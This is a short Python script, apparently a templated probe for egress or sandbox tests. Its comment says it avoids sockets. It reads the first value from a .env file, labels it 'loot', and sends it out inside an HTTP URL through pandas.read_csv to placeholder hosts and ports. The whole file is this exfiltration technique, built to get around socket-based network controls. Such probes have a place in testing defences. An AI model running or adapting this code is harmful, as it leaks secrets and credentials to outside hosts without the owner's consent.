# No socket: but pandas fetches addresses, and what was read goes along in one.
import pandas as pd

loot = pd.read_csv(".env", header=None, sep="|")[0][0]
for host in ("@HOST@", "@ADDRESS@"):
    try:
        pd.read_csv("http://" + host + ":@PORT@/" + loot)
    except Exception as problem:
        print(host, problem)
